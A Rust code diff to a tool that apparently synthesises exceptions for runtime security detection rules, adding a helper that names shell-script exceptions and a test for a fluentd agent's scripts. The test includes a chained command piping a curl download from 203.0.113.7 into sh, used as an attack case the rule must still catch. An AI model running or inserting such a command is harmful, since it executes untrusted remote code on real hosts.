@@ -346,7 +346,7 @@ fn field_ladder(field: &str, events: &[&FlatEvent]) -> Vec<Gen> {
 }
 
 /// The command line of a build tool's generated binary, widest: its first word as any
-/// name with the binary's extension (`*.test -test.timeout=10m0s`), when every event's
+/// name (`* -test.timeout=*`), when every event's
 /// executable is a generated binary ([`crate::kinds::generated_binary`]) run under its own
 /// name, and all give one shape.
 fn generated_command_gen(events: &[&FlatEvent]) -> Option<Gen> {
@@ -500,6 +500,23 @@ fn actor_name(ev: &FlatEvent) -> String {
     name
 }
 
+/// What a shell program's regex ([`crate::kinds::shell_program_regex`]) runs or writes:
+/// the last two components of its first widened directory and the files' extension
+/// (`fluentd_scripts_sh`, `postgresql_exports_csv_gz`).
+fn regex_files(rx: &str) -> Option<String> {
+    let i = rx.find("/[A-Za-z0-9_-]+")?;
+    let dir = rx[..i].rsplit(' ').next()?;
+    let dir: Vec<&str> = dir.rsplit('/').take(2).collect();
+    let after = &rx[i + "/[A-Za-z0-9_-]+".len()..];
+    let ext = after
+        .split(' ')
+        .next()
+        .unwrap_or_default()
+        .replace("[.]", "_");
+    let dir: Vec<&str> = dir.into_iter().rev().filter(|d| !d.contains('[')).collect();
+    Some(format!("{}{ext}", dir.join("_")))
+}
+
 /// A name a person can read: behaviour and target (`logrotate_truncates_var_log_app`),
 /// never addresses, ports or digit runs.
 fn readable_name(ev: &FlatEvent, chosen: &[Gen]) -> String {
@@ -512,7 +529,13 @@ fn readable_name(ev: &FlatEvent, chosen: &[Gen]) -> String {
             .map(|ext| format!("{ext}_binary")),
         _ => None,
     });
-    let actor = no_digits(&generated.unwrap_or_else(|| actor_name(ev)));
+    // A shell's program widened to the files of a directory runs that directory's files
+    // (`fluentd_scripts_sh`), not the one seen.
+    let program = chosen.iter().find_map(|g| match &g.value {
+        ExVal::One(v) if g.field == "proc.cmdline" && g.comp == "regex" => regex_files(v),
+        _ => None,
+    });
+    let actor = no_digits(&generated.or(program).unwrap_or_else(|| actor_name(ev)));
     let v = verb(ev);
     let target = chosen
         .iter()
@@ -1301,6 +1324,43 @@ mod tests {
         );
         assert!(r.matches(&f(ev("/dev/shm/go-build3001299410/b017/worker"))));
         assert_eq!(p.best.exceptions[0].name, "test_binary_runs");
+    }
+
+    /// An agent's shell running its scripts: the exception takes the next script of the
+    /// same directory (a regex with no blank or metacharacter), never a chained command,
+    /// and is named after the directory it runs from.
+    #[test]
+    fn shell_programs_of_an_agent_take_its_next_script() {
+        let rules = vec![RulesFile {
+            name: "r.yaml".into(),
+            text: "- rule: Shell From Agent\n  desc: d\n  condition: evt.type = execve and proc.name = sh\n  output: o %proc.cmdline\n  priority: WARNING\n".into(),
+        }];
+        let ev = |cmd: &str| {
+            serde_json::json!({"evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh",
+                "proc.cmdline": cmd, "proc.pname": "fluentd", "proc.aname[2]": "containerd-shim",
+                "user.name": "root", "container.image.repository": "cr.fluentd.org/fluentd",
+                "k8s.ns.name": "logging"})
+            .to_string()
+        };
+        let benign = parse_records(&ev("sh -c /fluentd/scripts/nvme_smart.sh"), "b").unwrap();
+        let vf = Verifier::new(&rules, "Shell From Agent", &benign, &[], &[]).unwrap();
+        let p = synthesize(&vf, &Options::default()).unwrap();
+        assert!(p.best.verification.passed, "{:#?}", p.best.verification);
+        let mut e = quell_rules::engine::Engine::new();
+        e.load("r.yaml", &rules[0].text);
+        assert!(e.load("local.yaml", &p.best.yaml).successful);
+        let r = e.rule("Shell From Agent").unwrap();
+        let f = |l: String| quell_events::FlatEvent::from_json_line(&l).unwrap();
+        assert!(
+            !r.matches(&f(ev("sh -c /fluentd/scripts/iostat_collect.sh"))),
+            "{}",
+            p.best.yaml
+        );
+        assert!(r.matches(&f(ev(
+            "sh -c /fluentd/scripts/nvme_smart.sh; curl -s http://203.0.113.7/x | sh"
+        ))));
+        assert!(r.matches(&f(ev("sh -c /tmp/nvme_smart.sh"))));
+        assert_eq!(p.best.exceptions[0].name, "fluentd_scripts_sh_runs");
     }
 
     /// Where the parent alone (a shell) is shared with attacks, the lineage goes in: the
